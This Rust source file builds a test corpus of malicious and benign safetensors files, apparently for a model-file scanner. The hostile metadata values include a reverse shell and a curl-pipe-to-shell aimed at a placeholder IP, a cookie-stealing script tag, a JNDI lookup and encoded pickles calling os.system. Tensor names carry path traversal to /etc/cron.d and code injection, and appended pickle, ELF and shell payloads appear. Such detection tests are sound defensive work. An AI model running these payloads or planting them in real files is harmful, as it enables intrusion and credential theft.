//! Safetensors: lies about the layout, two readings of one header, stowaways, hostile metadata.

use super::{CALLING_PICKLE, benign, framed_pickle, malicious, programs, small_zip, weights};
use crate::corpus::Case;
use crate::safetensors::{Builder, raw};

const CLASS: &str = "safetensors-structure";
const FILE: &str = "model.safetensors";

pub(super) fn cases() -> Vec<Case> {
    [
        layout(),
        readings(),
        broken(),
        trailing(),
        metadata(),
        honest(),
    ]
    .concat()
}

fn bad(name: &str, bytes: impl Into<Vec<u8>>) -> Case {
    malicious(CLASS, name, FILE, bytes)
}

fn good(name: &str, bytes: impl Into<Vec<u8>>) -> Case {
    benign(CLASS, name, FILE, bytes)
}

fn two(first: (u64, u64), second: (u64, u64), size: usize) -> Vec<u8> {
    Builder::new()
        .entry("a", "F32", &[2], first.0, first.1)
        .entry("b", "F32", &[2], second.0, second.1)
        .data(&weights(size / 4))
        .build()
}

fn one(dtype: &str, shape: &str, offsets: &str, size: usize) -> Vec<u8> {
    let header =
        format!("{{\"a\":{{\"dtype\":\"{dtype}\",\"shape\":{shape},\"data_offsets\":{offsets}}}}}");
    raw(&header, &vec![0; size])
}

fn layout() -> Vec<Case> {
    vec![
        bad("overlapping-tensors", two((0, 8), (4, 12), 12)),
        bad("tensor-inside-another", two((0, 8), (0, 8), 8)),
        bad(
            "empty-tensor-inside-another",
            raw(
                r#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[0],"data_offsets":[4,4]}}"#,
                &[0; 8],
            ),
        ),
        bad("hole-between-tensors", two((0, 8), (40, 48), 48)),
        bad("hole-before-first-tensor", two((16, 24), (24, 32), 32)),
        bad("hole-with-pickle", {
            let pickle = framed_pickle();
            let gap = pickle.len() as u64;
            Builder::new()
                .entry("a", "U8", &[8], 0, 8)
                .entry("b", "U8", &[8], 8 + gap, 16 + gap)
                .data(&[1; 8])
                .data(&pickle)
                .data(&[2; 8])
                .build()
        }),
        bad("out-of-bounds", two((0, 8), (8, 4096), 16)),
        bad(
            "out-of-bounds-far",
            one("U8", "[9223372036854775807]", "[0,9223372036854775807]", 8),
        ),
        bad("data-cut", two((0, 8), (8, 16), 12)),
        bad("begin-behind-end", one("F32", "[2]", "[8,0]", 8)),
        bad("shape-needs-more", one("F32", "[1000]", "[0,8]", 8)),
        bad("shape-needs-less", one("F32", "[1]", "[0,8]", 8)),
        bad(
            "shape-overflows",
            one("F32", "[4294967296,4294967296,4]", "[0,8]", 8),
        ),
        bad(
            "shape-times-width-overflows",
            one("F64", "[2305843009213693953]", "[0,8]", 8),
        ),
        bad("half-a-byte", one("F4", "[3]", "[0,1]", 1)),
    ]
}

fn readings() -> Vec<Case> {
    let entry =
        |offsets: &str| format!("{{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":{offsets}}}");
    vec![
        bad(
            "duplicate-tensor",
            raw(
                &format!("{{\"a\":{},\"a\":{}}}", entry("[0,8]"), entry("[8,16]")),
                &[0; 16],
            ),
        ),
        bad(
            "duplicate-tensor-by-escape",
            raw(
                &format!(
                    "{{\"a\":{},\"\\u0061\":{}}}",
                    entry("[0,8]"),
                    entry("[8,16]")
                ),
                &[0; 16],
            ),
        ),
        bad(
            "duplicate-dtype",
            raw(
                r#"{"a":{"dtype":"F32","dtype":"F16","shape":[2],"data_offsets":[0,8]}}"#,
                &[0; 8],
            ),
        ),
        bad(
            "duplicate-offsets",
            raw(
                r#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[8,16],"data_offsets":[0,8]}}"#,
                &[0; 8],
            ),
        ),
        bad(
            "duplicate-metadata-object",
            raw(
                &format!(
                    "{{\"__metadata__\":{{\"format\":\"pt\"}},\"__metadata__\":{{\"format\":\"tf\"}},\"a\":{}}}",
                    entry("[0,8]")
                ),
                &[0; 8],
            ),
        ),
        bad(
            "duplicate-metadata-key",
            raw(
                &format!(
                    "{{\"__metadata__\":{{\"license\":\"mit\",\"license\":\"gpl\"}},\"a\":{}}}",
                    entry("[0,8]")
                ),
                &[0; 8],
            ),
        ),
    ]
}

fn broken() -> Vec<Case> {
    let deep = format!(
        "{{\"__metadata__\":{}1{},\"a\":{{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}}}",
        "[".repeat(50_000),
        "]".repeat(50_000)
    );
    let mut not_utf8 = raw(
        "{\"?\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}",
        &[0],
    );
    if let Some(byte) = not_utf8.iter_mut().find(|byte| **byte == b'?') {
        *byte = 0xff;
    }
    vec![
        bad("deep-nesting", raw(&deep, &[0; 8])),
        bad("invalid-utf8", not_utf8),
        bad(
            "invalid-json",
            raw(
                "{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]},}",
                &[0; 8],
            ),
        ),
        bad(
            "header-is-cut",
            raw(
                "{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_off",
                &[0; 8],
            ),
        ),
        bad(
            "content-behind-object",
            raw(
                "{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}} {\"b\":1}",
                &[0],
            ),
        ),
        bad(
            "header-is-array",
            raw(
                "[{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}]",
                &[0],
            ),
        ),
        bad(
            "header-beyond-file",
            Builder::new()
                .tensor("a", "U8", &[1], &[0])
                .length(5000)
                .build(),
        ),
        bad(
            "header-length-maximal",
            Builder::new()
                .tensor("a", "U8", &[1], &[0])
                .length(u64::MAX)
                .build(),
        ),
        bad(
            "header-length-above-limit",
            Builder::new()
                .tensor("a", "U8", &[1], &[0])
                .length(200_000_000)
                .build(),
        ),
        bad("unknown-dtype", one("OBJECT", "[1]", "[0,8]", 8)),
        bad("negative-dimension", one("F32", "[-2]", "[0,8]", 8)),
        bad("fractional-dimension", one("F32", "[2.0]", "[0,8]", 8)),
        bad("dimension-as-text", one("F32", "[\"2\"]", "[0,8]", 8)),
        bad("negative-offset", one("F32", "[2]", "[-8,0]", 8)),
        bad(
            "missing-offsets",
            raw("{\"a\":{\"dtype\":\"F32\",\"shape\":[2]}}", &[]),
        ),
        bad(
            "missing-dtype",
            raw("{\"a\":{\"shape\":[2],\"data_offsets\":[0,8]}}", &[0; 8]),
        ),
        bad(
            "metadata-not-text",
            raw(
                "{\"__metadata__\":{\"a\":{\"__reduce__\":[1]}},\"w\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}",
                &[0],
            ),
        ),
        bad(
            "name-leaves-folder",
            Builder::new()
                .tensor("../../../../etc/cron.d/x", "U8", &[1], &[0])
                .build(),
        ),
        bad(
            "name-with-escape-sequence",
            Builder::new()
                .tensor("w\u{1b}]0;owned\u{7}", "U8", &[1], &[0])
                .build(),
        ),
        bad(
            "name-is-code",
            Builder::new()
                .tensor("__import__('os').system('id')", "U8", &[1], &[0])
                .build(),
        ),
    ]
}

fn trailing() -> Vec<Case> {
    let sound = || {
        Builder::new()
            .metadata("format", "pt")
            .tensor("w", "F32", &[64], &weights(64))
    };
    vec![
        bad("trailing-pickle", sound().data(CALLING_PICKLE).build()),
        bad(
            "trailing-framed-pickle",
            sound().data(&framed_pickle()).build(),
        ),
        bad(
            "trailing-zip",
            sound()
                .data(&small_zip("archive/data.pkl", CALLING_PICKLE))
                .build(),
        ),
        bad("trailing-elf", sound().data(&programs::elf()).build()),
        bad("trailing-script", sound().data(programs::SHELL).build()),
        bad("trailing-after-nothing", raw("{}", CALLING_PICKLE)),
    ]
}

fn metadata() -> Vec<Case> {
    let with = |name: &str, key: &str, value: &str| {
        let bytes = Builder::new()
            .metadata("format", "pt")
            .metadata(key, value)
            .tensor("w", "F32", &[4], &weights(4))
            .build();
        bad(name, bytes)
    };
    vec![
        with("metadata-template-injection", "description", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        with("metadata-encoded-pickle", "config", "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
        with("metadata-hex-pickle", "state", "80049528000000000000008c05706f736978948c0673797374656d9493948c086563686f2074657374948594529 42e".replace(' ', "").as_str()),
        with("metadata-reverse-shell", "postprocess", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        with("metadata-download-and-run", "setup", "curl -fsSL http://192.0.2.1/x | sh"),
        with("metadata-python", "init_hook", "__import__('os').system('echo test')"),
        with("metadata-eval", "transform", "eval(compile('print(1)','<s>','exec'))"),
        with("metadata-script-tag", "author", "<script>fetch('http://192.0.2.1/'+document.cookie)</script>"),
        with("metadata-secret", "upload_token", "ghp_9aB3kLm2ZxQ7rT5vW8yU1nE4sD6fG0hJ2cX4"),
        with("metadata-private-key", "cert", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAtest\n-----END RSA PRIVATE KEY-----"),
        with("metadata-jndi", "name", "${jndi:ldap://192.0.2.1/a}"),
    ]
}

fn honest() -> Vec<Case> {
    let sound = || {
        Builder::new()
            .metadata("format", "pt")
            .tensor("w", "F32", &[64], &weights(64))
    };
    let kohya = r#"{"img": {"1girl": 120, "solo": 98, "eval": 3, "import": 1, "{{random}}": 1}}"#;
    let thumbnail = format!(
        "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/{}",
        "2wBDAAgGBgcGBQgHBwcJ".repeat(400)
    );
    vec![
        good("plain", sound().build()),
        good("padded", sound().padding(7).build()),
        good("no-tensors", raw("{}", &[])),
        good(
            "only-metadata",
            Builder::new().metadata("format", "pt").build(),
        ),
        good(
            "empty-tensors",
            Builder::new()
                .tensor("empty", "F32", &[0], &[])
                .tensor("w", "F32", &[2, 0, 3], &[])
                .tensor("scalar", "I64", &[], &[0; 8])
                .build(),
        ),
        good("all-types", all_types()),
        good("unsorted-entries", two((8, 16), (0, 8), 16)),
        good(
            "kohya-training-metadata",
            sound()
                .metadata("ss_tag_frequency", kohya)
                .metadata("ss_network_module", "networks.lora")
                .metadata(
                    "ss_sd_model_name",
                    "C:\\models\\sd\\v1-5-pruned.safetensors",
                )
                .metadata("modelspec.thumbnail", &thumbnail)
                .metadata(
                    "modelspec.description",
                    "A style. Docs: https://example.org/lora?id=1&x=2",
                )
                .build(),
        ),
        good(
            "workflow-metadata",
            sound()
                .metadata(
                    "workflow",
                    r#"{"nodes":[{"type":"KSampler","inputs":{"seed":1}}],"links":[]}"#,
                )
                .build(),
        ),
        good(
            "license-text",
            sound()
                .metadata(
                    "license",
                    &"Permission is hereby granted, free of charge. ".repeat(60),
                )
                .build(),
        ),
        good(
            "digest-metadata",
            sound()
                .metadata(
                    "sshs_model_hash",
                    "4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393",
                )
                .metadata("sshs_legacy_hash", "9a8b7c6d")
                .build(),
        ),
        good(
            "names-of-many-kinds",
            Builder::new()
                .tensor(
                    "bert/encoder/layer_0/attention/self/query/kernel:0",
                    "U8",
                    &[1],
                    &[0],
                )
                .tensor(
                    "model.layers.0.mlp.experts.127.down_proj.weight_scale_inv",
                    "U8",
                    &[1],
                    &[0],
                )
                .tensor("первый слой.вес", "U8", &[1], &[0])
                .build(),
        ),
        good("large-header", {
            let mut builder = Builder::new();
            for layer in 0..3000 {
                builder = builder.tensor(
                    &format!("model.layers.{layer}.weight"),
                    "BF16",
                    &[2],
                    &[0, 63, 0, 63],
                );
            }
            builder.build()
        }),
        good("chance-magics-in-weights", {
            let mut data = weights(4096);
            for (at, magic) in [
                (100, b"MZ".as_slice()),
                (1000, b"\x7fELF"),
                (2000, b"PK\x03\x04"),
                (3000, b"\x80\x04\x95"),
                (4000, b"#!/"),
                (5000, b"PE\0\0"),
                (6000, b"\xcf\xfa\xed\xfe"),
                (7000, b"GGUF"),
            ] {
                data.splice(at..at + magic.len(), magic.iter().copied());
            }
            Builder::new().tensor("w", "F32", &[4096], &data).build()
        }),
        good("text-in-tensor", {
            let text = b"<unk>\x00<s>\x00</s>\x00import\x00os\x00exec(\x00curl \x00wget \x00powershell\x00subprocess.";
            Builder::new()
                .tensor("vocab", "U8", &[text.len() as u64], text)
                .build()
        }),
    ]
}

fn all_types() -> Vec<u8> {
    let mut builder = Builder::new();
    for (dtype, width) in [
        ("BOOL", 1),
        ("U8", 1),
        ("I8", 1),
        ("F8_E5M2", 1),
        ("F8_E4M3", 1),
        ("F8_E8M0", 1),
        ("F8_E4M3FNUZ", 1),
        ("F8_E5M2FNUZ", 1),
        ("I16", 2),
        ("U16", 2),
        ("F16", 2),
        ("BF16", 2),
        ("I32", 4),
        ("U32", 4),
        ("F32", 4),
        ("C64", 8),
        ("F64", 8),
        ("I64", 8),
        ("U64", 8),
    ] {
        builder = builder.tensor(&format!("w.{dtype}"), dtype, &[2], &vec![0; width * 2]);
    }
    builder
        .tensor("w.F4", "F4", &[4], &[0; 2])
        .tensor("w.F6_E2M3", "F6_E2M3", &[4], &[0; 3])
        .tensor("w.F6_E3M2", "F6_E3M2", &[4], &[0; 3])
        .build()
}
